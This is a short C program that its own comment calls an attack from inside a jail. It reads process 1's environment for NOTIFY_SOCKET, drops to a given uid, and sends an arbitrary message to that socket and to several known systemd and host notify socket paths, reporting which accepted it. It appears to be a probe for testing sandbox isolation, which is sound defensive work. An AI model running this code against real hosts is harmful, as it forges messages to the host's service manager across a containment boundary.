/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * tell uid message: an attack from inside of a jail.  As user uid, sends the
 * message to each socket that a service manager of the host might listen on,
 * and the one that process 1 was told of.  Exit status 0 if one took it.
 */
#include <sys/socket.h>
#include <sys/un.h>

#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *const places[] = { "/run/systemd/notify", "/run/notify",
    "/var/run/systemd/notify", "/run/host/notify",
    "/run/notify/notify.sock", "/notify", "@/org/freedesktop/systemd1/notify" };

static bool
send_to(const char *name, const char *message)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };
	size_t n = strlen(name);
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	bool sent;

	if (fd == -1 || n >= sizeof(sun.sun_path))
		return (false);
	memcpy(sun.sun_path, name, n);
	if (name[0] == '@')
		sun.sun_path[0] = '\0';
	sent = sendto(fd, message, strlen(message), 0,
	    (struct sockaddr *)&sun, (socklen_t)(offsetof(struct sockaddr_un,
	    sun_path) + n)) != -1;
	close(fd);
	if (sent)
		printf("%s took it\n", name);
	return (sent);
}

int
main(int argc, char **argv)
{
	static char env[65536];
	size_t i, n, took = 0;
	FILE *f;

	if (argc != 3)
		return (64);
	f = fopen("/proc/1/environ", "re");
	n = f == NULL ? 0 : fread(env, 1, sizeof(env) - 1, f);
	if (f != NULL)
		(void)fclose(f);
	if (setgid((gid_t)strtoul(argv[1], NULL, 10)) == -1 ||
	    setuid((uid_t)strtoul(argv[1], NULL, 10)) == -1)
		return (1);
	for (i = 0; i < n; i += strlen(env + i) + 1)
		if (strncmp(env + i, "NOTIFY_SOCKET=", 14) == 0)
			took += send_to(env + i + 14, argv[2]);
	for (i = 0; i < sizeof(places) / sizeof(places[0]); i++)
		took += send_to(places[i], argv[2]);
	return (took == 0);
}
